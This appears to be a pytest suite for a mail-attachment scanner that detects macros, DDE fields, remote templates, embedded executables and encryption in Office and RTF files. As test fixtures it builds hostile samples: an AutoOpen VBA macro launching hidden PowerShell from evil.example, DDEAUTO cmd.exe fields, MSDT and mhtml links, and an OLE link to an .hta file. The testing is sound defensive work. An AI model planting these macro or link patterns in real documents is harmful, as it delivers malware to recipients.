"""Office files: macros, what they load from elsewhere, what is embedded, what is locked."""

from __future__ import annotations

import random
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from file_samples import (
    PROGRAM,
    code_picture,
    compound,
    compressed,
    macro_project,
    relationship,
    word_package,
    zipped,
)
from gatepost.files.inspect import FileLimits, inspect_file
from gatepost.files.vba import decompress
from gatepost.mail.filereport import FileReport

BAD_MACRO = """Sub AutoOpen()
  Dim s As String
  s = "pow" & "ershell -w hidden https://evil.example/a.ps1"
  Shell s, 0
End Sub
"""


def look(octets: bytes, name: str, *, passwords: tuple[str, ...] = ()) -> list[FileReport]:
    return inspect_file(name, "", octets, 1, passwords=passwords, limits=FileLimits(), scratch=None)


def facts(report: FileReport) -> dict[str, str]:
    return {fact.name: fact.text for fact in report.facts}


def test_the_example_of_the_specification_unpacks() -> None:
    # MS-OVBA §3.2.2, a container with copies in it.
    packed = bytes.fromhex(
        "012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c"
    )
    assert decompress(packed) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    # §3.2.1: nothing to copy.
    plain = bytes.fromhex("0119b000616263646566676800696a6b6c6d6e6f70007172737475762e")
    assert decompress(plain) == b"abcdefghijklmnopqrstuv."
    # §3.2.3: one letter many times.
    assert decompress(bytes.fromhex("0103b002614500")) == b"a" * 73


@given(st.binary(max_size=9000))
def test_what_is_packed_unpacks(plain: bytes) -> None:
    assert decompress(compressed(plain)) == plain


def macro_files() -> list[tuple[str, bytes]]:
    project = compound(macro_project(BAD_MACRO))
    slides = b"\0\0\x11\x10" + (len(project)).to_bytes(4, "little")
    import zlib

    packed = len(project).to_bytes(4, "little") + zlib.compress(project)
    slides = b"\x10\0\x11\x10" + len(packed).to_bytes(4, "little") + packed
    return [
        ("a.docm", word_package(parts={"word/vbaProject.bin": project})),
        ("renamed.docm", word_package(parts={"word/other.bin": project})),
        (
            "a.xlsm",
            zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"", "xl/vbaProject.bin": project}),
        ),
        ("a.doc", compound({"WordDocument": bytes(1000), **macro_project(BAD_MACRO, under="Macros/")})),
        ("a.xls", compound({"Workbook": bytes(100), **macro_project(BAD_MACRO, under="_VBA_PROJECT_CUR/")})),
        ("a.ppt", compound({"PowerPoint Document": slides, "Current User": b"x"})),
    ]


@pytest.mark.parametrize(("name", "octets"), macro_files())
def test_macros_are_read(name: str, octets: bytes) -> None:
    report = look(octets, name)[0]
    told = facts(report)
    assert {"macro", "macro-autoexec", "macro-suspicious"} <= told.keys()
    assert "AutoOpen" in told["macro-autoexec"]
    assert "powershell" in told["macro-suspicious"]
    assert "https://evil.example/a.ps1" in report.links
    assert "failed" not in told


def test_an_innocent_macro_is_only_a_macro() -> None:
    source = 'Sub Sum()\r\n  Set d = CreateObject("Scripting.Dictionary")\r\n  Range("A1").Value = 2\r\nEnd Sub\r\n'
    report = look(word_package(parts={"word/vbaProject.bin": compound(macro_project(source))}), "a.docm")[0]
    assert facts(report).keys() == {"macro"}


def test_a_module_without_its_source() -> None:
    project = macro_project(BAD_MACRO)
    project["VBA/Module1"] = b"compiled code only".ljust(900, b"\xaa")
    report = look(word_package(parts={"word/vbaProject.bin": compound(project)}), "a.docm")[0]
    assert {"macro", "macro-stomped"} <= facts(report).keys()


def test_a_plain_document_says_nothing() -> None:
    report = look(
        word_package("Dear colleagues", relationships=relationship("hyperlink", "https://a.example/x")),
        "a.docx",
    )[0]
    assert facts(report) == {}
    assert report.kind == "docx"
    assert "Dear colleagues" in report.text
    assert report.links == ("https://a.example/x",)


@pytest.mark.parametrize(
    ("kind", "target", "fact"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "remote-template"),
        ("attachedTemplate", "file://evil.example/share/t.dotm", "remote-template"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "remote-template"),
        (
            "oleObject",
            "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html",
            "external-object",
        ),
        ("frame", "http://evil.example/", "external-object"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "external-object"),
    ],
)
def test_what_is_loaded_from_elsewhere(kind: str, target: str, fact: str) -> None:
    report = look(word_package(relationships=relationship(kind, target)), "a.docx")[0]
    assert fact in facts(report)
    assert target in report.links


def test_the_template_on_the_writers_own_disk_is_nothing() -> None:
    target = "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    assert (
        facts(look(word_package(relationships=relationship("attachedTemplate", target)), "a.docx")[0]) == {}
    )


@pytest.mark.parametrize(
    "body",
    [
        '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
        '<w:instrText>DD</w:instrText><w:r/><w:instrText xml:space="preserve">EAUTO c:\\\\x</w:instrText>',
        '<w:fldSimple w:instr="DDE cmd x"/>',
        "<w:instrText>QUOTE 68 68 69 65 85 84 79 32 99 109 100</w:instrText>",
    ],
)
def test_fields_that_ask_other_programs(body: str) -> None:
    assert "dde" in facts(look(word_package(body=body), "a.docx")[0])


def test_a_word_that_reads_like_a_field_is_none() -> None:
    assert "dde" not in facts(look(word_package("We talk of DDE and DDEAUTO here"), "a.docx")[0])


def test_dde_and_macro_sheets_in_workbooks() -> None:
    octets = zipped({
        "[Content_Types].xml": b"", "xl/workbook.xml": b'<definedName name="_xlnm.Auto_Open">x</definedName>',
        "xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc">',
        "xl/macrosheets/sheet1.xml": b"<f>EXEC(&quot;calc&quot;)</f>",
    })  # fmt: skip
    report = look(octets, "a.xlsm")[0]
    assert {"dde", "excel4-macro", "macro-autoexec"} <= facts(report).keys()
    assert "cmd" in facts(report)["dde"]
    assert "EXEC" in report.text


def record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def test_a_macro_sheet_in_an_old_workbook() -> None:
    book = record(0x809, bytes(16)) + record(0x85, bytes(4) + b"\x02\x01" + b"\x01\0a")
    book += record(0x18, b"\x20\0\0\x01" + bytes(10) + b"\0\x01" + bytes(8)) + record(0x0A, b"")
    told = facts(look(compound({"Workbook": book}), "a.xls")[0])
    assert "hidden" in told["excel4-macro"]
    assert "macro-autoexec" in told


def test_embedded_files_are_looked_into() -> None:
    reports = look(word_package(parts={"word/embeddings/x.exe": PROGRAM}), "a.docx")
    assert [(report.name, report.kind) for report in reports[1:]] == [("word/embeddings/x.exe", "pe")]
    assert reports[1].octets == PROGRAM
    native = (
        b"\2\0invoice.exe\0C:\\x\\invoice.exe\0"
        + bytes(4)
        + (4).to_bytes(4, "little")
        + b"C:\\\0"
        + len(PROGRAM).to_bytes(4, "little")
        + PROGRAM
    )
    packed = compound({"\x01Ole10Native": len(native).to_bytes(4, "little") + native})
    reports = look(word_package(parts={"word/embeddings/oleObject1.bin": packed}), "a.docx")
    assert [report.shown for report in reports][-1].endswith("oleObject1.bin › invoice.exe")
    assert reports[-1].kind == "pe"


def test_a_code_in_a_document_is_read() -> None:
    report = look(
        word_package(parts={"word/media/image1.png": code_picture("https://evil.example/qr")}), "a.docx"
    )[0]
    assert "qr-code" in facts(report)
    assert report.links == ("https://evil.example/qr",)


def rtf_object(name: bytes, native: bytes) -> bytes:
    body = (
        struct.pack("<II", 0x501, 2)
        + struct.pack("<I", len(name) + 1)
        + name
        + b"\0"
        + bytes(8)
        + struct.pack("<I", len(native))
        + native
    )
    digits = body.hex().encode()
    return (
        b"{\\rtf1{\\object\\objemb{\\*\\objdata "
        + b"\n".join(digits[n : n + 60] for n in range(0, len(digits), 60))
        + b"}}}"
    )


def test_objects_in_rtf() -> None:
    reports = look(rtf_object(b"Equation.3", compound({"Equation Native": bytes(100)})), "a.rtf")
    assert {"equation-editor", "embedded-object"} <= facts(reports[0]).keys()
    native = (
        b"\2\0evil.exe\0C:\\evil.exe\0"
        + bytes(4)
        + (4).to_bytes(4, "little")
        + b"C:\\\0"
        + len(PROGRAM).to_bytes(4, "little")
        + PROGRAM
    )
    reports = look(rtf_object(b"Package", native), "a.rtf")
    assert [(report.name, report.kind) for report in reports[1:]] == [("evil.exe", "pe")]
    moniker = (
        bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
        + bytes(4)
        + "https://evil.example/x.hta".encode("utf-16-le")
    )
    link = look(
        rtf_object(b"OLE2Link", compound({"\x01Ole": b"\1\0\0\2\1\0\0\0" + bytes(12) + moniker})), "a.doc"
    )
    assert any("external-object" in facts(report) for report in link)
    assert any("https://evil.example/x.hta" in report.links for report in link)


def test_objects_in_rtf_behind_noise() -> None:
    plain = rtf_object(b"Equation.3", compound({"Equation Native": bytes(100)}))
    start = plain.index(b"objdata ") + 8
    noisy = (
        plain[:start]
        + b"{\\*\\x aabbcc}"
        + b"".join(bytes((c, 32)) for c in plain[start : start + 200])
        + plain[start + 200 :]
    )
    assert "equation-editor" in facts(look(noisy, "a.rtf")[0])


def test_rtf_templates_fields_and_text() -> None:
    octets = b'{\\rtf1\\ansi{\\*\\template https://evil.example/t.dotm}{\\field{\\*\\fldinst HYPERLINK "https://a.example/"}{\\fldrslt x}}Dear \\\'e4 friend\\par}'
    report = look(octets, "a.rtf")[0]
    assert "remote-template" in facts(report)
    assert "https://a.example/" in report.links
    assert "Dear ä friend" in report.text


def test_opendocument() -> None:
    content = b'<office:document-content><text:p>Hello there</text:p><text:a xlink:href="https://a.example/">x</text:a>'
    octets = zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "Basic/Standard/Module1.xml": b"Sub Main",
        },
        method=0,
    )
    reports = look(octets, "a.odt")
    assert "macro" in facts(reports[0])
    assert "Hello there" in reports[0].text
    assert reports[0].links == ("https://a.example/",)


@pytest.fixture(scope="module")
def locked() -> dict[str, bytes]:
    """The same document locked with each of two passwords."""
    import io

    from msoffcrypto.format.ooxml import OOXMLFile

    # The library's own writer stumbles over packages that would fit into a mini stream, hence the ballast.
    ballast = random.Random(1).randbytes(9000)
    parts = {"word/vbaProject.bin": compound(macro_project(BAD_MACRO)), "word/ballast.dat": ballast}
    plain = word_package("Secret words", parts=parts)
    made = {}
    for password in ("VelvetSweatshop", "1234"):
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(plain)).encrypt(password, out)
        made[password] = out.getvalue()
    return made


def test_a_locked_document(locked: dict[str, bytes]) -> None:
    closed = look(locked["1234"], "a.docx", passwords=("no", "nor this"))
    assert list(facts(closed[0])) == ["encrypted"]
    opened = look(locked["1234"], "a.docx", passwords=("no", "1234"))
    assert {"encrypted", "password-found"} <= facts(opened[0]).keys()
    assert "macro-autoexec" in facts(opened[1])
    assert "Secret words" in opened[1].text
    assert opened[1].octets is not None


def test_the_password_excel_tries_by_itself(locked: dict[str, bytes]) -> None:
    opened = look(locked["VelvetSweatshop"], "a.xlsx")
    assert "password-found" in facts(opened[0])
    assert "macro" in facts(opened[1])


def test_a_lock_that_would_take_hours_is_not_tried(locked: dict[str, bytes]) -> None:
    slow = locked["1234"].replace(b'spinCount="100000"', b'spinCount="999999999"')
    report = look(slow + b' spinCount="999999999"', "a.docx", passwords=("1234",))[0]
    assert {"encrypted", "unreadable"} <= facts(report).keys()


@pytest.mark.parametrize("end", [8, 100, 600, 1500])
def test_broken_compound_files_are_not_silent(end: int) -> None:
    report = look(
        compound({"WordDocument": bytes(1000), **macro_project(BAD_MACRO, under="Macros/")})[:end], "a.doc"
    )[0]
    assert facts(report)
